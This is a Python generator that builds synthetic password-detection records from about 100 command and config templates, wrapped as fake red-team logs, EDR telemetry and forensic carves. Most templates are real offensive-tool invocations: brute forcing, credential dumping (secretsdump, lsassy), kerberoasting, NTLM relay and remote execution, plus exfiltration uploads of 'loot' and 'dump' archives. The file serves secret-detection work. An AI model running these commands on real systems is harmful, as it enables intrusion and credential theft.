"""Positional passwords: one new syntax each (offensive tooling, SIEM/EDR configs, forensic tools)."""
import random, json
from common import password, fill, Filler

SEED = 5203
S = "\u27e6S\u27e7"

# (span type, 'cmd' or 'cfg', template) ; {U} user {H} host {I} ip {D} domain
P = [
 ("hydra_lowercase_p_single_guess", "cmd", "hydra -l {U} -p {S} ssh://{I} -t 4"),
 ("medusa_lowercase_p_flag", "cmd", "medusa -h {I} -u {U} -p {S} -M ssh"),
 ("ncrack_pass_option", "cmd", "ncrack --user {U} --pass {S} rdp://{I}"),
 ("netexec_smb_p_flag", "cmd", "nxc smb {I} -u {U} -p '{S}' --shares"),
 ("crackmapexec_winrm_p_flag", "cmd", "crackmapexec winrm {I} -d ACME -u {U} -p {S} -x whoami"),
 ("impacket_target_userinfo_password", "cmd", "secretsdump.py acme/{U}:{S}@{I}"),
 ("impacket_wmiexec_userinfo_password", "cmd", "wmiexec.py -shell-type powershell 'ACME.LOCAL/{U}:{S}'@{H}"),
 ("evil_winrm_lowercase_p", "cmd", "evil-winrm -i {I} -u {U} -p '{S}'"),
 ("smbmap_lowercase_p", "cmd", "smbmap -H {I} -u {U} -p '{S}' -d ACME"),
 ("enum4linux_ng_p_flag", "cmd", "enum4linux-ng -A {I} -u {U} -p {S}"),
 ("ldapdomaindump_p_flag", "cmd", "ldapdomaindump ldap://{I} -u 'ACME\\{U}' -p '{S}' -o loot/"),
 ("bloodhound_python_p_flag", "cmd", "bloodhound-python -d acme.local -u {U} -p '{S}' -ns {I} -c All"),
 ("kerbrute_passwordspray_positional", "cmd", "kerbrute passwordspray -d acme.local --dc {I} users.txt '{S}'"),
 ("rubeus_asktgt_password_switch", "cmd", "Rubeus.exe asktgt /user:{U} /password:{S} /domain:acme.local /ptt"),
 ("certipy_req_p_flag", "cmd", "certipy req -u {U}@acme.local -p '{S}' -ca ACME-CA -template User"),
 ("lsassy_p_flag", "cmd", "lsassy -d acme.local -u {U} -p {S} {I}"),
 ("coercer_coerce_p_flag", "cmd", "coercer coerce -u {U} -p '{S}' -d acme.local -l {I} -t {H}"),
 ("msfconsole_set_smbpass", "cmd", "msf6 exploit(windows/smb/psexec) > set SMBPass {S}"),
 ("msfconsole_setg_password", "cmd", "msf6 > setg PASSWORD {S}"),
 ("msfrpcd_capital_p", "cmd", "msfrpcd -U msf -P {S} -a 127.0.0.1 -S"),
 ("msf_db_connect_userinfo", "cmd", "msf6 > db_connect msf:{S}@127.0.0.1:5432/msf"),
 ("cobalt_teamserver_second_positional", "cmd", "./teamserver {I} {S} c2.profile"),
 ("sqlmap_auth_cred_colon", "cmd", "sqlmap -u 'https://{H}/item?id=1' --auth-type=Basic --auth-cred='{U}:{S}'"),
 ("nmap_script_args_smbpassword", "cmd", "nmap -p445 --script smb-enum-shares --script-args smbusername={U},smbpassword={S} {I}"),
 ("nikto_id_user_colon_pass", "cmd", "nikto -h https://{H} -id {U}:{S}"),
 ("gobuster_capital_p_basic", "cmd", "gobuster dir -u https://{H} -w common.txt -U {U} -P {S}"),
 ("wpscan_process_substitution_password", "cmd", "wpscan --url https://{H} -U admin -P <(echo {S})"),
 ("ntlmrelayx_add_computer_password_positional", "cmd", "ntlmrelayx.py -t ldaps://{I} --escalate-user {U} --add-computer EVIL$ {S}"),
 ("bettercap_api_rest_password", "cmd", "bettercap -eval 'set api.rest.username ops; set api.rest.password {S}; api.rest on'"),
 ("beef_config_passwd_key", "cfg", "beef:\n  credentials:\n    user: \"beef\"\n    passwd: \"{S}\""),
 ("gvm_cli_gmp_password", "cmd", "gvm-cli --gmp-username admin --gmp-password {S} socket --xml '<get_version/>'"),
 ("gvmd_new_password_option", "cmd", "gvmd --user=admin --new-password={S}"),
 ("nessuscli_adduser_printf_stdin", "cmd", "printf '{U}\\n{S}\\n{S}\\ny\\n\\ny\\n' | /opt/nessus/sbin/nessuscli adduser {U}"),
 ("splunk_cli_auth_user_colon", "cmd", "/opt/splunk/bin/splunk search 'index=_internal | head 5' -auth admin:{S}"),
 ("splunk_add_user_password_flag", "cmd", "splunk add user {U} -password {S} -role user -auth admin:changeme"),
 ("splunk_user_seed_conf_password", "cfg", "[user_info]\nUSERNAME = admin\nPASSWORD = {S}"),
 ("splunk_outputs_conf_ssl_password", "cfg", "[tcpout:indexers]\nserver = {I}:9997\nsslPassword = {S}"),
 ("elasticsearch_keystore_stdin_bootstrap", "cmd", "echo '{S}' | bin/elasticsearch-keystore add -x bootstrap.password"),
 ("kibana_yml_elasticsearch_password", "cfg", "elasticsearch.username: \"kibana_system\"\nelasticsearch.password: \"{S}\""),
 ("logstash_output_password_arrow", "cfg", "output {{\n  elasticsearch {{\n    hosts => [\"https://{I}:9200\"]\n    user => \"logstash_writer\"\n    password => \"{S}\"\n  }}\n}}"),
 ("filebeat_output_password_key", "cfg", "output.elasticsearch:\n  hosts: [\"{I}:9200\"]\n  username: \"beats\"\n  password: \"{S}\""),
 ("fluent_bit_http_passwd_key", "cfg", "[OUTPUT]\n    Name  es\n    Host  {I}\n    HTTP_User fluent\n    HTTP_Passwd {S}"),
 ("vector_toml_auth_password", "cfg", "[sinks.siem.auth]\nstrategy = \"basic\"\nuser = \"vector\"\npassword = \"{S}\""),
 ("graylog_root_password_sha2_echo", "cmd", "echo -n '{S}' | sha256sum  # set graylog root_password_sha2 from this"),
 ("wazuh_agent_auth_capital_p", "cmd", "/var/ossec/bin/agent-auth -m {I} -P '{S}' -A {H}"),
 ("wazuh_authd_pass_file_line", "cmd", "echo '{S}' > /var/ossec/etc/authd.pass"),
 ("thehive_application_conf_password", "cfg", "db.janusgraph.storage.cql {{\n  username = \"thehive\"\n  password = \"{S}\"\n}}"),
 ("misp_docker_admin_passphrase_env", "cmd", "docker run -e ADMIN_PASSWORD={S} -e ADMIN_EMAIL={U}@acme-sec.example coolacid/misp-docker"),
 ("suricata_update_http_header_basic", "cmd", "suricata-update add-source etpro https://rules.example/etpro.tar.gz --http-header 'X-Pass: {S}'"),
 ("velociraptor_user_add_positional", "cmd", "velociraptor --config server.config.yaml user add {U} {S} --role administrator"),
 ("osqueryd_tls_enroll_secret_file", "cmd", "echo -n '{S}' > /etc/osquery/enroll_secret && osqueryd --enroll_secret_path=/etc/osquery/enroll_secret"),
 ("veracrypt_password_equals", "cmd", "veracrypt --text --mount evidence.hc /mnt/ev --password={S} --pim=0 --non-interactive"),
 ("cryptsetup_key_file_stdin", "cmd", "echo -n '{S}' | cryptsetup luksOpen --key-file=- /dev/sdb2 evidence"),
 ("keepassxc_cli_stdin_unlock", "cmd", "echo '{S}' | keepassxc-cli show -s loot.kdbx 'VPN/admin'"),
 ("steghide_embed_p_flag", "cmd", "steghide embed -cf cat.jpg -ef creds.txt -p {S}"),
 ("steghide_extract_passphrase", "cmd", "steghide extract -sf cat.jpg -p {S} -xf out.txt"),
 ("rar_hp_attached_switch", "cmd", "rar a -hp{S} exfil.rar ./dump/"),
 ("qpdf_encrypt_user_password_positional", "cmd", "qpdf --encrypt {S} owner-unused 256 -- report.pdf report-locked.pdf"),
 ("pdftk_user_pw_keyword", "cmd", "pdftk findings.pdf output findings-enc.pdf user_pw {S}"),
 ("libreoffice_convert_password_filter", "cmd", "soffice --convert-to 'pdf:writer_pdf_Export:{{\"EncryptFile\":{{\"type\":\"boolean\",\"value\":\"true\"}},\"DocumentOpenPassword\":{{\"type\":\"string\",\"value\":\"{S}\"}}}}' report.odt"),
 ("vncpasswd_f_stdin_pipe", "cmd", "echo '{S}' | vncpasswd -f > ~/.vnc/passwd"),
 ("tightvnc_server_password_switch", "cmd", "tvnserver.exe -controlservice -setpassword {S}"),
 ("putty_pscp_pw_switch", "cmd", "pscp.exe -pw {S} loot.zip {U}@{I}:/tmp/"),
 ("winscp_open_url_userinfo", "cmd", "winscp.com /command \"open sftp://{U}:{S}@{I}/\" \"put dump.7z\" \"exit\""),
 ("rclone_obscure_positional", "cmd", "rclone config create exfil sftp host {I} user {U} pass $(rclone obscure {S})"),
 ("smbclient_py_target_userinfo", "cmd", "smbclient.py 'acme.local/{U}:{S}@{H}'"),
 ("runas_netonly_echo_pipe", "cmd", "echo {S}| runas /netonly /user:ACME\\{U} mmc.exe"),
 ("powershell_convertto_securestring_plain", "cmd", "$pw = ConvertTo-SecureString '{S}' -AsPlainText -Force; $c = New-Object PSCredential('ACME\\{U}', $pw)"),
 ("invoke_smbexec_password_param", "cmd", "Invoke-SMBExec -Target {I} -Domain ACME -Username {U} -Password {S} -Command whoami"),
 ("sharphound_ldappassword_switch", "cmd", "SharpHound.exe -c All --ldapusername {U} --ldappassword {S}"),
 ("adidnsdump_p_flag", "cmd", "adidnsdump -u 'acme\\{U}' -p '{S}' {I}"),
 ("pywhisker_p_flag", "cmd", "pywhisker.py -d acme.local -u {U} -p '{S}' --target DC01$ --action list"),
 ("gettgt_password_positional_colon", "cmd", "getTGT.py -dc-ip {I} 'acme.local/{U}:{S}'"),
 ("mssqlclient_windows_auth_userinfo", "cmd", "mssqlclient.py -windows-auth 'ACME/{U}:{S}@{I}'"),
 ("netexec_ldap_kerberoasting_p_flag", "cmd", "nxc ldap {I} -u {U} -p '{S}' --kerberoasting kerb.txt"),
 ("snmp_community_set_c_flag", "cmd", "snmpset -v2c -c {S} {I} 1.3.6.1.2.1.1.5.0 s pwned"),
 ("onesixtyone_single_community", "cmd", "onesixtyone -c <(echo {S}) {I}"),
 ("ipsec_psk_secrets_line", "cfg", "{I} %any : PSK \"{S}\""),
 ("wireguard_preshared_key_setconf", "cfg", "[Peer]\nPublicKey = (see peer list)\nPresharedKey = {S}\nAllowedIPs = 10.66.0.0/24"),
 ("tshark_wpa_pwd_uat", "cmd", "tshark -r air.pcap -o wlan.enable_decryption:TRUE -o 'uat:80211_keys:\"wpa-pwd\",\"{S}:CorpWiFi\"'"),
 ("aircrack_ng_airdecap_p_flag", "cmd", "airdecap-ng -e CorpWiFi -p {S} capture-01.cap"),
 ("hostapd_conf_wpa_passphrase", "cfg", "interface=wlan1\nssid=Corp-Guest\nwpa=2\nwpa_passphrase={S}"),
 ("nmcli_wifi_password_keyword", "cmd", "nmcli dev wifi connect Corp-Guest password {S}"),
 ("netsh_wlan_profile_keymaterial", "cfg", "<sharedKey>\n  <keyType>passPhrase</keyType>\n  <protected>false</protected>\n  <keyMaterial>{S}</keyMaterial>\n</sharedKey>"),
 ("openconnect_passwd_on_stdin", "cmd", "echo '{S}' | openconnect --user={U} --passwd-on-stdin vpn.acme-sec.example"),
 ("psk_crack_result_key_line", "cmd", "psk-crack -b 8 psk.txt  # key \"{S}\" matches SHA1 hash"),
 ("fortigate_cli_set_password", "cfg", "config system admin\n  edit \"{U}\"\n    set password {S}\n  next\nend"),
 ("cisco_ios_enable_secret_zero", "cfg", "enable secret 0 {S}"),
 ("cisco_username_password_type_zero", "cfg", "username {U} privilege 15 password 0 {S}"),
 ("junos_plain_text_password_prompt", "cmd", "set system login user {U} class super-user authentication plain-text-password-value {S}"),
 ("mikrotik_user_add_password_arg", "cmd", "/user add name={U} group=full password={S}"),
 ("pfsense_playback_changepassword_note", "cmd", "pfSsh.php playback changepassword admin  # typed: {S}"),
 ("radius_clients_conf_secret", "cfg", "client fw01 {{\n    ipaddr = {I}\n    secret = {S}\n}}"),
 ("tacacs_key_directive", "cfg", "key = \"{S}\"\nuser = {U} {{ service = exec {{ priv-lvl = 15 }} }}"),
 ("impacket_ldapconnection_login_second_arg", "cmd", "python3 -c \"from impacket.ldap import ldap; c=ldap.LDAPConnection('ldap://{I}'); c.login('{U}', '{S}', 'acme.local')\""),
 ("paramiko_connect_password_kwarg", "cmd", "ssh.connect('{I}', username='{U}', password='{S}', look_for_keys=False)"),
 ("pexpect_sendline_password", "cmd", "child.expect('Password:'); child.sendline('{S}')"),
 ("powershell_ssh_posh_ssh_plain", "cmd", "New-SSHSession -ComputerName {I} -Credential (New-Object PSCredential('{U}',(ConvertTo-SecureString -String '{S}' -AsPlainText -Force)))"),
 ("ftp_url_userinfo_in_curl_upload", "cmd", "curl -T dump.tgz ftp://{U}:{S}@{I}/incoming/"),
 ("sftp_batch_sshpass_env", "cmd", "SSHPASS='{S}' sshpass -e sftp -oBatchMode=no -b put.txt {U}@{I}"),
 ("telnet_session_password_echo", "cmd", "(sleep 1; echo {U}; sleep 1; echo {S}; sleep 1; echo 'show run') | telnet {I}"),
 ("vsftpd_virtual_users_db_line", "cfg", "{U}\n{S}"),
]

SUFFIX_CMD = ["red_team_op_log", "edr_cmdline_telemetry"]


def generate():
    r = random.Random(SEED)
    f = Filler(r)
    recs = []
    for i, (t, kind, tpl0) in enumerate(P):
        v = password(r)
        body = tpl0.format(S=S, U=f.user().replace(".", "_"), H=f.host(), I=f.ip())
        if kind == "cmd" and i % 2 == 1:
            suf = "edr_cmdline_telemetry"
            tpl = json.dumps({"event_simpleName": "ProcessRollup2", "ComputerName": f.host(),
                              "UserName": f.user(), "CommandLine": body, "timestamp": f.ts()}, ensure_ascii=False)
        elif kind == "cmd":
            suf = "red_team_op_log"
            tpl = "[%s] op %s on %s\n$ %s\n[*] done" % (f.ts(), f.user(), f.host(), body)
        else:
            suf = "forensic_config_carve"
            tpl = "carved from image %s, inode %s:\n---\n%s\n---" % (f.case(), f.num(), body)
        text, spans = fill(tpl, {"S": (v, t)})
        recs.append({"type": t, "container": t + "__" + suf, "text": text, "secrets": spans, "source": "password"})
    return recs
